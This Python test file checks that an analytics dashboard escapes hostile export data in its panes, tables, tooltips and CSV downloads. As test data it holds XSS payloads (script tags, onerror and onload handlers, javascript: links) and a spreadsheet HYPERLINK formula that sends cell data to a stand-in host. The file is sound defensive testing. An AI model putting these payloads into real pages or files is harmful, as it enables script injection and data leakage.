"""Text from an export is text on every page, never markup (issue 27): every pane, option, table
cell and tooltip of a session built on a board whose countries and file name are HTML payloads.
The browser test (test_browser_xss.py) checks the same in Chromium; this one runs without it."""

from __future__ import annotations

import html
import io
from html.parser import HTMLParser

import pandas as pd
import panel as pn
import pytest
from bokeh.models import HoverTool

from lgs_analytics.dashboard import grids, text
from lgs_analytics.dashboard.app import Session
from lgs_analytics.dashboard.data import Board
from lgs_analytics.results import BuildParameters, Provenance, Recommendations
from tests.dashboard.test_labels import HEADLINE, orders, people, segments
from tests.dashboard.test_pure import monthly

XSS = ("<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "javascript:alert(1)",
       "<svg onload=alert(1)>", '"><b>bold</b>')
FILE = "<img src=x onerror=alert(2)>.csv"
FORMULA = '=HYPERLINK("http://x/?"&A2,"Click")'
# The four scored customers' countries (customer 2's is shown on its profile) and their invoices'.
COUNTRIES = {1: XSS[0], 2: XSS[1], 3: XSS[4], 4: FORMULA}
# What no payload may become: an element that runs or shows markup, an event handler, a script link.
INJECTED_TAGS = {"script", "img", "svg", "b", "iframe"}


class Markup(HTMLParser):
    """The tags, attributes and text of an HTML fragment as a browser parses it."""

    def __init__(self, fragment: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict]] = []
        self.text: list[str] = []
        self.feed(fragment)

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data):
        self.text.append(data)

    def injected(self) -> list:
        return [(tag, attrs) for tag, attrs in self.tags
                if tag in INJECTED_TAGS or any(a.startswith("on") for a in attrs)
                or (tag == "a" and not attrs.get("href", "").startswith("#"))  # Markdown's heading anchors
                or any("javascript:" in (v or "") for v in attrs.values())]


def shown(pane) -> str:
    """The HTML a Markdown or HTML pane sends the browser (Panel escapes it once for transport)."""
    return html.unescape(pane._transform_object(pane.object)["object"])


def payload_board() -> Board:
    listed = people(True)
    listed["country"] = listed["customer_id"].map(COUNTRIES)
    invoices = orders().assign(country=[XSS[i % len(XSS)] for i in range(len(orders()))])
    provenance = Provenance(7, pd.Timestamp("2011-12-10 08:00"), BuildParameters(),
                            batches=({"file": f"/exports/{FILE}", "rows_read": 10},), package_version="0")
    # Products whose descriptions (and so the reasons naming them) are payloads too.
    lists = pd.DataFrame({"customer_id": [2, 2], "rank": [1, 2], "stock_code": ["23552", "22698"],
                          "description": [XSS[0], XSS[3]], "score": [0.5, 0.2],
                          "reason": [f"bought together with {XSS[1]}", f"popular in {XSS[4]}"],
                          "based_on": ["23498", None], "scorer": ["co-occurrence", "popularity"]})
    pairs = pd.DataFrame({"stock_code": ["23552"], "description": [XSS[0]], "rank": [1],
                          "related_code": ["23498"], "related_description": [XSS[1]], "score": [0.1],
                          "lift": [10.0], "baskets_together": [5], "share": [0.5]})
    quality = {"why": XSS[2], "scorer": "popularity", "customers": 3}
    return Board(provenance, HEADLINE, monthly(), segments(), listed, invoices, pd.Timestamp("2011-12-10"),
                 None, recommendations=Recommendations(lists, pairs, quality))


def payload_events(hours: float, key: bytes | None) -> pd.DataFrame:
    """Live events whose segment and sentence are payloads (a segment name comes from the rules file)."""
    return pd.DataFrame({"customer": ["2"], "event_id": [1], "raised_at": [pd.Timestamp("2026-12-07 10:00")],
                         "kind": ["won back"], "customer_id": [2], "invoice_no": [XSS[3]],
                         "invoice_date": [pd.Timestamp("2026-12-07 09:59")], "amount": [10.0],
                         "segment": [XSS[0]], "build_id": [7], "detail": [f"{XSS[1]} in build 7"]})


@pytest.fixture
def session(monkeypatch) -> Session:
    monkeypatch.setattr("lgs_analytics.dashboard.live.live_events", payload_events)
    # Not the campaigns recorded in whatever database the environment names (a developer's own .lgs).
    monkeypatch.setattr("lgs_analytics.dashboard.app.campaign_results", lambda: [])
    s = Session(payload_board())
    s.open_customer("2")
    s.products.show("23552")
    return s


def views(s: Session) -> list:
    """The whole page: header and the five tabs (each built: see app.Session.build_rest)."""
    return [s.view()]


def test_the_markdown_and_html_panes_show_payloads_as_text(session):
    session.customer.show("<img src=x onerror=alert(3)>")  # typed into the lookup: a Markdown note
    found = []
    for view in views(session):
        for pane in view.select(lambda o: isinstance(o, (pn.pane.Markdown, pn.pane.HTML))):
            markup = Markup(shown(pane))
            assert not markup.injected(), (pane.object, markup.injected())
            found.append("".join(markup.text))
    words = "\n".join(found)
    assert FILE in words  # the provenance line names the file as it is spelled
    assert "No customer <img src=x onerror=alert(3)> in build 7." in words


def test_the_customer_profile_shows_the_country_as_text(session):
    session.open_customer("2")
    markup = Markup(shown(session.customer.profile))
    assert not markup.injected()
    assert any(XSS[1] in t for t in markup.text)  # customer 2's country, as spelled


def test_country_options_are_escaped_labels_of_the_real_values(session):
    countries = session.customers.countries
    model = countries.get_root()
    for label in model.options:
        assert "<" not in label and html.unescape(label) in COUNTRIES.values()  # drawn as HTML
    assert set(countries.options.values()) == set(COUNTRIES.values())
    countries.value = [XSS[1]]  # what the page filters on is the real country
    assert list(session.customers.rows["country"].unique()) == [XSS[1]]
    assert model.value == [html.escape(XSS[1])]


def test_every_text_column_of_every_table_is_plain_text(session):
    tabulators = {id(w): w for view in views(session) for w in view.select(pn.widgets.Tabulator)}
    # segments, customers, orders, next products, alerts, a product's partners, its buyers, live events
    assert len(tabulators) == 8
    for table in tabulators.values():
        for column in table.value.columns:
            if table.value[column].map(lambda v: isinstance(v, str)).any():
                assert table.formatters.get(column) == grids.TEXT, (table.css_classes, column)
        columns = {c["field"]: c for c in table.get_root().configuration["columns"]}
        texts = [c for c in table.value.columns if table.value[c].map(lambda v: isinstance(v, str)).any()]
        assert texts, table.css_classes  # every table of this session holds a payload
        assert all(columns[c]["formatter"] == "plaintext" for c in texts), (table.css_classes, texts)


def test_no_tooltip_renders_a_value_as_html(session):
    for view in views(session):
        for figure in (p.object for p in view.select(pn.pane.Bokeh)):
            for tool in figure.select(HoverTool):
                assert "{safe}" not in str(tool.tooltips)


def test_the_customer_download_quotes_formulas(session):
    rows = pd.read_csv(io.StringIO(session.customers._csv().getvalue()), keep_default_na=False)
    assert set(rows["country"]) == {XSS[0], XSS[1], XSS[4], "'" + FORMULA}
    assert rows["spend_gbp"].dtype == float


def test_markdown_text_is_literal():
    for value in (*XSS, "*a* _b_ [c](javascript:alert(1)) `d` $x$ # e | f"):
        markup = Markup(shown(pn.pane.Markdown(f"Country {text.markdown(value)}.")))
        assert not markup.injected() and [t for t, _ in markup.tags] == ["p"]
        assert "".join(markup.text).strip() == f"Country {value}."
